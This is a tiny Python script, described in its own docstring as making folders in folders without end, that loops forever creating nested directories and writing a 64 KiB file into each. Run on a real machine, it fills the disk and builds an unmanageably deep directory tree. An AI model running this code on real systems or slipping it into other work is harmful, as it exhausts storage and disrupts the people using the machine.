"""Makes folders in folders without end."""

import os

content = bytes(64 << 10)
while True:
    os.mkdir("d")
    os.chdir("d")
    with open("file", "wb") as file:
        file.write(content)
